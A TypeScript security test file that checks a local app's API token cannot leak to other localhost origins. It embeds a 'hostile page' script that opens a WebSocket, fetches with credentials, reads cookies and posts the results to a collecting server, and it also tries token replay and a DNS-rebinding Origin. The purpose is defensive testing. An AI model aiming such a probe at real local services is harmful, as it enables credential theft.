// Hardening item 3: the token cookie reached any other server on 127.0.0.1 (cookies ignore ports;
// SameSite counts every port as the same site), so a page on another port captured it and opened the
// whole API. Now no credential that opens the API may ever reach another origin: the token travels in
// the address's fragment (never sent to a server) and the socket's first frame; images use a separate
// key that reads images only. Probed with Debian's Chromium: the user opens the app, then a page served
// by another local HTTP server (another port) tries everything a page can; that server records every
// request it gets.
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WS_CLOSE } from '../../main/api/browser-protocol.js';
import { AuditProject } from '../../main/project/project.js';
import { openApi, ProbeLog, rawGet, rawWebSocket, startServe, statusOf, stillServes, wsFrame, type ServeChild } from './server-harness.js';

const log = new ProbeLog('server-auth');
const tmp = mkdtempSync(path.join(os.tmpdir(), 'eidetic-rob-auth-'));
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
let s: ServeChild;
let imageSha = '';
let filesKey = '';

/** The other local server: records every request (URL and headers) and serves the hostile page. */
let other: Server;
let otherPort = 0;
const seen: { url: string; headers: IncomingMessage['headers'] }[] = [];
let report: any = null;

function hostilePage(eideticPort: number): string {
  // Everything a page on another port can try against the app without knowing its secrets.
  return `<!doctype html><title>other</title><script>
  (async () => {
    const out = { ws: [], fetches: [] };
    const target = 'http://127.0.0.1:${eideticPort}';
    await new Promise((resolve) => {
      const ws = new WebSocket('ws://127.0.0.1:${eideticPort}/api');
      ws.onopen = () => { out.ws.push('open'); ws.send(JSON.stringify({ type: 'auth', token: '' })); ws.send(JSON.stringify({ id: 1, method: 'app.info', input: {} })); };
      ws.onmessage = (m) => out.ws.push('message ' + String(m.data).slice(0, 300));
      ws.onerror = () => out.ws.push('error');
      ws.onclose = (e) => { out.ws.push('close ' + e.code); resolve(); };
      setTimeout(resolve, 5000);
    });
    for (const p of ['/', '/files/x/image/${'0'.repeat(64)}', '/api']) {
      try {
        const r = await fetch(target + p, { credentials: 'include' });
        out.fetches.push(p + ' ' + r.status + ' ' + (await r.text()).slice(0, 100));
      } catch (e) { out.fetches.push(p + ' blocked'); }
      try {
        const r = await fetch(target + p, { credentials: 'include', mode: 'no-cors' });
        out.fetches.push(p + ' no-cors ' + r.type);
      } catch (e) { out.fetches.push(p + ' no-cors blocked'); }
    }
    out.cookie = document.cookie;
    await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
  })();
  </script>`;
}

beforeAll(async () => {
  const refs = path.join(tmp, 'refs');
  mkdirSync(refs);
  writeFileSync(path.join(refs, 'one.png'), await sharp({ create: { width: 32, height: 32, channels: 3, background: { r: 9, g: 90, b: 190 } } }).png().toBuffer());
  const project = AuditProject.create(path.join(tmp, 'case'));
  const set = await project.importReferenceFolder(refs, 'refs');
  imageSha = project.listReferences(set.id, 0, 1).rows[0].sha256;
  const dir = project.dir;
  project.close();
  s = await startServe(['--project', dir], { EIDETIC_CONFIG_DIR: path.join(tmp, 'config') });

  other = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    if (req.url === '/report') {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', () => {
        report = JSON.parse(body);
        res.end('ok');
      });
      return;
    }
    res.setHeader('Content-Type', 'text/html');
    res.end(hostilePage(s.port));
  });
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
  otherPort = (other.address() as { port: number }).port;
});
afterAll(async () => {
  console.log(log.summary());
  await s?.stop();
  await new Promise((r) => other?.close(r));
  rmSync(tmp, { recursive: true, force: true });
});

/** Any of this launch's secrets inside a string. */
const leaks = (text: string) => [s.token, filesKey].filter((x) => x && text.includes(x));

describe('no credential that opens the API reaches another origin', () => {
  it('no response sets a cookie, with or without the token in the address', async () => {
    const targets = ['/', '/index.html', `/?token=${s.token}`, '/no/such/page', `/files/x/image/${'0'.repeat(64)}`];
    const setCookies: string[] = [];
    for (const t of targets) {
      const r = await rawGet(s.port, t);
      if (/^set-cookie:/im.test(r.text)) setCookies.push(t);
    }
    log.record('no response sets a cookie', setCookies.length === 0, setCookies.join(', '));
    expect(setCookies).toEqual([]);
  });

  it('what a browser would attach by itself (a cookie, basic or bearer headers) opens nothing', async () => {
    const headers = [{ Cookie: `eidetic_token=${s.token}` }, { Authorization: `Bearer ${s.token}` }, { Authorization: `Basic ${Buffer.from(`x:${s.token}`).toString('base64')}` }];
    const results: string[] = [];
    for (const h of headers) {
      const r = await rawGet(s.port, `/files/image/${imageSha}`, h);
      results.push(`files ${statusOf(r.text)}`);
      // The socket: headers only, no auth frame; any call is refused with 4401.
      const raw = await rawWebSocket(s.port).catch(() => null);
      if (raw) {
        raw.socket.write(wsFrame({ opcode: 1, payload: Buffer.from(JSON.stringify({ id: 1, method: 'app.info', input: {} })) }));
        results.push(`socket ${await raw.closed()}`);
        raw.socket.destroy();
      }
    }
    const held = results.every((r) => r === 'files 401' || r === `socket ${WS_CLOSE.unauthorized}`);
    log.record('a cookie, bearer or basic header with the token opens neither files nor the API', held, results.join(', '));
    expect(held, results.join(', ')).toBe(true);
  });

  it('the images key reads images only: it does not open the API', async () => {
    const api = await openApi(s.port, s.token);
    filesKey = api.files;
    api.close();
    const raw = await rawWebSocket(s.port);
    raw.socket.write(wsFrame({ opcode: 1, payload: Buffer.from(JSON.stringify({ type: 'auth', token: filesKey })) }));
    const code = await raw.closed();
    raw.socket.destroy();
    const image = statusOf((await rawGet(s.port, `/files/${filesKey}/thumb/${imageSha}`)).text);
    log.record('the images key is refused as an API token; it reads a thumbnail', code === WS_CLOSE.unauthorized && image === 200, `${code} ${image}`);
    expect(code).toBe(WS_CLOSE.unauthorized);
    expect(image).toBe(200);
  });

  it('a socket from another origin is refused at the upgrade, even with the token', async () => {
    const refused = await openApi(s.port, s.token, { Origin: `http://127.0.0.1:${otherPort}` }).then(
      (api) => (api.close(), 'opened'),
      (err: Error) => err.message,
    );
    const rebound = await openApi(s.port, s.token, { Origin: `http://rebind.example:${s.port}` }).then(
      (api) => (api.close(), 'opened'),
      (err: Error) => err.message,
    );
    log.record('a socket from another origin (another port, a rebound name) is refused', /40[13]/.test(refused) && /40[13]/.test(rebound), `${refused}; ${rebound}`);
    expect(refused).toMatch(/40[13]/);
    expect(rebound).toMatch(/40[13]/);
  });

  it('in Chromium: a page on another port gets nothing, and its server sees no secret', async () => {
    let browser: Browser | null = null;
    try {
      browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'] });
      const context = await browser.newContext();
      const app = await context.newPage();
      const requests: string[] = [];
      context.on('request', (r) => {
        if (new URL(r.url()).port === String(s.port)) requests.push(`${r.url()} ${JSON.stringify(r.headers())}`);
      });
      await app.goto(s.url);
      await app.getByTestId('link-state').filter({ hasText: 'Engine connected' }).waitFor({ timeout: 60_000 });
      const address = app.url();
      // The user, with the app open, visits a page served on another local port.
      const hostile = await context.newPage();
      await hostile.goto(`http://127.0.0.1:${otherPort}/`);
      const deadline = Date.now() + 30_000;
      while (!report && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      const cookies = await context.cookies();
      const problems = [
        ...(report ? [] : ['the hostile page did not report']),
        ...leaks(JSON.stringify(seen)).map(() => 'the other server received a secret'),
        ...leaks(JSON.stringify(report ?? {})).map(() => 'the hostile page read a secret'),
        ...leaks(JSON.stringify(cookies)).map(() => 'a cookie holds a secret'),
        ...(cookies.length ? [`cookies were set: ${cookies.map((c) => c.name).join(', ')}`] : []),
        ...leaks(requests.join('\n')).map(() => 'a request to the app carried the token'),
        ...(address.includes(s.token) ? ['the token stayed in the address bar'] : []),
        ...((report?.ws ?? []) as string[]).filter((e) => e.startsWith('message') || e === 'open').map((e) => `the hostile socket: ${e}`),
        ...((report?.fetches ?? []) as string[]).filter((f) => / 200 /.test(f) && !f.startsWith('/ 200')).map((f) => `the hostile page fetched ${f}`),
      ];
      const serving = await stillServes(s);
      log.record('Chromium: a page on another port and its server get no secret and no API', serving && problems.length === 0, problems.join('; '));
      console.log(`hostile page report: ${JSON.stringify(report)}`);
      expect(problems).toEqual([]);
      expect(serving).toBe(true);
    } finally {
      await browser?.close();
    }
  });
});
